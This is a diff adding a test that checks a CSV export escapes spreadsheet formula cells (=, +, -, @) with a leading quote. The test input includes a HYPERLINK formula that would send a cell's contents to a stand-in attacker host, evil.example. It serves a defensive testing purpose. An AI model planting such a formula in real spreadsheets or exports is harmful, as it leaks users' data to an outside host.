@@ -141,3 +141,16 @@ def test_demo_export_counts_match_for_filters_without_words(client, db):
     for params in [{"place": "mali"}, {"topic": "coup-detat"}, {"from": "2022", "to": "2022"}]:
         _, text = export(client, format="csv", **params)
         assert len(list(csv.DictReader(io.StringIO(text)))) == search_total(client, **params)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(client, db):
+    make_article(FORMULA, body="+SUM(1,2) formula body", byline="@attacker", agency="-2+3")
+    _, text = export(client, format="csv", q="formula", fields="id,headline,byline,agency,snippet")
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["headline"] == "'" + FORMULA
+    assert (row["byline"], row["agency"]) == ("'@attacker", "'-2+3")
+    assert row["snippet"] == "'+SUM(1,2) formula body"
+    assert row["id"].isdecimal()  # numbers stay numbers
